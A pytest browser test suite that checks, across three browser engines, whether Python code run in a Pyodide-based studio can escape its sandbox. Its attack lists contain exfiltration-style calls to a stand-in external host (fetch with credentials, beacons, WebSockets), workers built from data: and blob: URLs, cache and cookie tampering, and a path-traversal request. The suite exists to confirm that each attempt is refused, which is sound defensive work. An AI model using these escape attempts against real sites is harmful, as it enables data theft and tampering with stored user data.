"""What readers' code may not do, tried in every engine: reach another host, the site's storage, another page, or start a worker."""
import contextlib
import http.server
import urllib.request

import onnx
import onnx.external_data_helper
import pytest
from playwright.sync_api import expect

from tests.browser.conftest import BOOT, SITE, StaticFiles, opened, page_of, ready, serving, visitor
from tests.browser.face import LONG, Chromium
from tests.browser.firefox import Firefox
from tests.browser.labs.test_cells import Cell, written
from tests.browser.labs.test_own_network_lab import bright, bring
from tests.browser.site.test_share import link
from tests.browser.webkit import WebKit

ENGINES = ["chromium", "firefox", "webkit"]


class Other(http.server.BaseHTTPRequestHandler):
    """Another host, which answers anybody and remembers who asked."""
    asked: list[str] = []

    def answer(self):
        self.asked.append(f"{self.command} {self.path}")
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Type", "text/javascript")
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_GET = do_POST = do_HEAD = do_OPTIONS = answer

    def log_message(self, *args):
        pass


class OpenSite(StaticFiles):
    """The site on a host that lets every origin read it, as some do."""

    def end_headers(self):
        self.send_header("Access-Control-Allow-Origin", "*")
        super().end_headers()


@pytest.fixture(scope="module")
def hosts():
    with serving(lambda *given: OpenSite(*given, directory=SITE)) as site, serving(Other) as other:
        yield site.url, other.url


@pytest.fixture(scope="module", params=ENGINES)
def tab(request, hosts, tmp_path_factory):
    """A page whose engine is ready; beside it, what another page of the site would hear and what the site has stored."""
    with contextlib.ExitStack() as stack:
        if request.param == "chromium":
            running = Chromium(request.getfixturevalue("browser"))
            stack.callback(running.context.close)
        else:
            running = stack.enter_context({"firefox": Firefox, "webkit": WebKit}[request.param](tmp_path_factory.mktemp(request.param)))
        tab = running.open(hosts[0] + "index.html")
        tab.until("() => window.pystudio?.engine.state === 'ready'", timeout=LONG)
        tab.evaluate("""async () => {
            window.overheard = [];
            for (const name of ["pystudio", "other"]) new BroadcastChannel(name).onmessage = event => overheard.push(event.data);
            await (await caches.open("pystudio kept")).put("kept.txt", new Response("kept"));
        }""")
        yield tab


def run(tab, source):
    """Run a cell past its editor; the text that it printed."""
    return tab.evaluate("""async source => {
        const { engine } = window.pystudio;
        let text = "";
        const stop = engine.on("output", ({ key, output }) => key === "attack" && output.kind === "text" && (text += output.text));
        const { error } = await engine.call("cell.run", { key: "attack", title: "Attack", source, network: "deeplab_s16" }, { stoppable: true });
        await new Promise(done => setTimeout(done)); // the last text comes before the answer
        stop();
        return text + (error ? JSON.stringify(error) : "");
    }""", source)


TOOLS = """
import asyncio, js
from pyodide.ffi import to_js

def record(**fields):
    return to_js(fields, dict_converter=js.Object.fromEntries)

def blob(text, kind="text/javascript"):
    return js.URL.createObjectURL(js.Blob.new(to_js([text]), record(type=kind)))

async def settled(answer):
    if hasattr(answer, "then") or asyncio.iscoroutine(answer):
        await asyncio.wait_for(answer, 1)
"""

# Each is an expression; it may raise. {other} is another host, {site} this one.
REACH = {
    "fetch": "js.fetch('{other}fetch', record(mode='no-cors'))",
    "fetch with cookies": "js.fetch('{other}fetch', record(method='POST', body='photo', mode='no-cors', credentials='include', keepalive=True))",
    "a request object": "js.fetch(js.Request.new('{other}request', record(mode='no-cors')))",
    "pyfetch": "__import__('pyodide.http', fromlist=['pyfetch']).pyfetch('{other}pyfetch')",
    "open_url": "__import__('pyodide.http', fromlist=['open_url']).open_url('{other}open_url')",
    "urllib": "__import__('urllib.request', fromlist=['urlopen']).urlopen('{other}urllib')",
    "XMLHttpRequest": "(lambda r: (r.open('GET', '{other}xhr', False), r.send()))(js.XMLHttpRequest.new())",
    "WebSocket": "js.WebSocket.new('{other}socket'.replace('http', 'ws'))",
    "EventSource": "js.EventSource.new('{other}events')",
    "WebTransport": "js.WebTransport.new('{other}transport'.replace('http:', 'https:')).ready",
    "importScripts": "js.importScripts('{other}script.js')",
    "a font": "js.FontFace.new('f', 'url({other}font)').load()",
    "eval": "js.eval(\"fetch('{other}eval', {{mode: 'no-cors'}})\")",
    "a function made of text": "js.Function.new(\"return fetch('{other}function', {{mode: 'no-cors'}})\")()",
    "a timer made of text": "js.setTimeout(\"fetch('{other}timer', {{mode: 'no-cors'}})\", 0)",
    "a beacon": "js.navigator.sendBeacon('{other}beacon', 'photo')",
    "a worker of the site's": "js.Worker.new('{site}{script}', record(type='module', name='ort-wasm-proxy-worker'))",
    "a worker from data:": "js.Worker.new(\"data:text/javascript,fetch('{other}worker',{{mode:'no-cors'}})\")",
    "a worker from blob:": "js.Worker.new(blob(\"fetch('{other}worker',{{mode:'no-cors'}})\"))",
    "a shared worker": "js.SharedWorker.new('{site}{script}')",
    "a worker of the prototype's": "js.Object.getPrototypeOf(js.self).Worker.new('{site}{script}')",
    "a service worker": "js.navigator.serviceWorker.register('{site}sw.js')",
    "a file that the manifest does not name": "settled_text('https://studio.invalid/../index.html')",
}
STORE = {
    "the caches": "js.caches.open('pystudio kept').then(lambda cache: cache.put('{site}kept.txt', js.Response.new('forged')))",
    "the caches' names": "js.caches.keys().then(lambda names: print('FOUND', *names) if names.length else None)",
    "deleting a cache": "js.caches.delete('pystudio kept')",
    "a database": "opened_database('pystudio')",
    "files of the origin": "js.navigator.storage.getDirectory().then(lambda folder: print('FOUND folder', folder))",
    "storage buckets": "js.navigator.storageBuckets.open('pystudio').then(lambda bucket: print('FOUND bucket', bucket))",
    "local storage": "print('FOUND', js.localStorage.length)",
    "cookies": "js.cookieStore.set('pystudio', 'forged')",
    "a channel": "js.BroadcastChannel.new('pystudio').postMessage(record(store='pages', key='x', changes='forged'))",
    "locks": "js.navigator.locks.query().then(lambda found: print('FOUND locks', found.held.length))",
}
HELPERS = """
async def settled_text(address):
    answer = await js.fetch(address)
    if answer.ok:
        print("FOUND", (await answer.text())[:40])

async def opened_database(name):
    wanted = asyncio.get_running_loop().create_future()
    request = js.indexedDB.open(name)
    request.onsuccess = lambda event: wanted.set_result(None)
    request.onerror = lambda event: wanted.set_result(None)
    await wanted
    print("FOUND database", [each for each in request.result.objectStoreNames])
"""


def program(attacks, site, other):
    """Code that tries all of them, one after the other, and prints what came of each."""
    script = next((SITE / "studio").glob("worker-*.mjs")).relative_to(SITE).as_posix()
    lines = [TOOLS, HELPERS]
    for name, attack in attacks.items():
        lines.append(f"try:\n    print('TRIED', {name!r})\n    answer = {attack.format(other=other, site=site, script=script)}\n"
                     "    await settled(answer)\nexcept BaseException as error:\n    print('REFUSED', type(error).__name__)\n")
    return "\n".join(lines)


def attacked(tab, attacks, site, other):
    """What is printed when all of them are tried."""
    return run(tab, program(attacks, site, other))


def test_no_request_reaches_another_host_and_no_worker_starts(tab, hosts):
    site, other = hosts
    Other.asked.clear()
    said = attacked(tab, REACH, site, other)
    assert said.count("TRIED") == len(REACH), said
    assert "FOUND" not in said, said
    for name in (each for each in REACH if "worker" in each):
        assert f"TRIED {name}\nREFUSED" in said, said
    tab.evaluate("() => fetch('kept.txt').catch(() => 0)")  # one more turn of the network
    assert Other.asked == []


def test_another_host_would_have_heard_of_it(hosts):
    Other.asked.clear()
    urllib.request.urlopen(hosts[1] + "control").read()
    assert Other.asked == ["GET /control"]


def test_nothing_that_the_site_stored_is_within_reach(tab, hosts):
    before = tab.evaluate(STORED)
    said = attacked(tab, STORE, *hosts)
    assert said.count("TRIED") == len(STORE), said
    found = [line for line in said.splitlines() if line.startswith("FOUND")]
    assert [line for line in found if "kept" in line or "pages" in line or line.startswith("FOUND folder")] == [], said
    assert tab.evaluate(STORED) == before
    assert tab.evaluate("() => overheard") == []
    assert before["kept"] == "kept"


STORED = """async () => ({
    caches: (await caches.keys()).filter(name => !name.startsWith("pystudio /")).sort(), // those are the service worker's, which may be at work
    kept: await (await (await caches.open("pystudio kept")).match("kept.txt"))?.text(),
    databases: ((await indexedDB.databases?.()) ?? []).map(each => each.name).sort(),
    cookies: document.cookie,
    local: JSON.stringify(localStorage),
})"""


# ---------------------------------------------------------------- the ways in which such code comes
def test_code_that_a_link_brings_runs_when_asked_and_reaches_nobody(browser, site, server, hosts):
    Other.asked.clear()
    address = page_of(site, server, "attacked.html", written("print('the author')"))
    state = {"settings": {"studio-cell.0.code": program(REACH, server.url, hosts[1])}}
    with visitor(browser) as context:
        page = opened(context)
        page.goto(address + link(state))
        ready(page, "studio-cell")
        cell = Cell(page)
        cell.editor.wait_for(timeout=BOOT)
        assert not cell.printed
        cell.run()
        assert cell.printed.count("TRIED") == len(REACH) and "FOUND" not in cell.printed
        page.evaluate("() => fetch('about.html').then(answer => answer.text())")
    assert Other.asked == []


def test_a_network_whose_weights_lie_elsewhere_is_refused_and_fetches_nothing(browser, lesson, hosts, tmp_path):
    Other.asked.clear()
    whole = bright()
    tensor = whole.graph.initializer[0]
    onnx.external_data_helper.set_external_data(tensor, location=hosts[1] + "weights.bin")
    tensor.ClearField("raw_data")
    (tmp_path / "elsewhere.onnx").write_bytes(whole.SerializeToString())
    with visitor(browser) as context:
        page = opened(context)
        page.goto(lesson(("own-network", "photo: kitten")))
        ready(page, "studio-own-network")
        bring(page, tmp_path / "elsewhere.onnx")
        expect(page.locator("[role=alert]:visible")).to_contain_text("Its weights are not in this file")
    assert Other.asked == []
